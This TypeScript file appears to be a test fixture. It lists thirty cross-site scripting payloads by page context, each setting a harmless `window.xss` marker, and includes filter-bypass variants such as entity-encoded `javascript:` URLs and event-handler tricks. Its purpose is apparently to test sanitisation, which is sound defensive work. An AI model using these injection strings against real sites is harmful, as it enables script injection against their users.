/** The context in a page in which a payload would run. */
export type Context = 'markup' | 'attribute' | 'single-quoted' | 'script' | 'address' | 'script-address';

/** Thirty payloads, each of which runs in its context and sets `window.xss`. */
export const XSS_PAYLOADS: readonly { context: Context; text: string }[] = [
  { context: 'markup', text: '<script>window.xss=1</script>' },
  { context: 'markup', text: '<script type=module>window.xss=1</script>' },
  { context: 'markup', text: '"><script>window.xss=1</script>' },
  { context: 'markup', text: "'><img src=x:x onerror=window.xss=1>" },
  { context: 'markup', text: '<IMG """><SCRIPT>window.xss=1</SCRIPT>">' },
  { context: 'markup', text: '<img src="x:x" onerror="window.xss=1">' },
  { context: 'markup', text: '<img/src="x:x"/onerror=window.xss&#61;1>' },
  { context: 'markup', text: '<svg onload=window.xss=1>' },
  { context: 'markup', text: '<svg><script>window.xss=1</script></svg>' },
  { context: 'markup', text: '<svg><animate onbegin=window.xss=1 attributeName=x dur=1s>' },
  { context: 'markup', text: '<details open ontoggle=window.xss=1>Mehr' },
  { context: 'markup', text: '<body onload=window.xss=1>' },
  { context: 'markup', text: '<input autofocus onfocus=window.xss=1>' },
  { context: 'markup', text: '<video><source onerror=window.xss=1></video>' },
  { context: 'markup', text: '<audio src=x:x onerror=window.xss=1>' },
  { context: 'markup', text: '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>' },
  { context: 'markup', text: '<iframe src="javascript:parent.xss=1"></iframe>' },
  {
    context: 'markup',
    text: '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=window.xss=1>x',
  },
  { context: 'markup', text: '<link rel=stylesheet href="data:text/css," onload=window.xss=1>' },
  { context: 'markup', text: '</textarea></title><script>window.xss=1</script>' },
  { context: 'markup', text: 'red;}</style><script>window.xss=1</script>' },
  { context: 'markup', text: '--><img src=x:x onerror=window.xss=1>' },
  { context: 'attribute', text: '" autofocus onfocus=window.xss=1 x="' },
  { context: 'single-quoted', text: "' autofocus onfocus='window.xss=1" },
  { context: 'script', text: '";window.xss=1;//' },
  { context: 'script', text: '</script><script>window.xss=1</script>' },
  { context: 'address', text: 'javascript:window.xss=1' },
  { context: 'address', text: ' JaVa\tScRiPt:window.xss=1//https://files.example/bild.png' },
  { context: 'address', text: '&#106;avascript&colon;window.xss=1' },
  { context: 'script-address', text: 'data:text/javascript,window.xss=1' },
];

const contexts = XSS_PAYLOADS.map(({ context }) => context);

/** The first payload of each context, for journeys that take them one after the other. */
export const XSS_KINDS = XSS_PAYLOADS.map(({ text }) => text).filter(
  (_, at) => contexts.indexOf(contexts[at] as Context) === at,
);
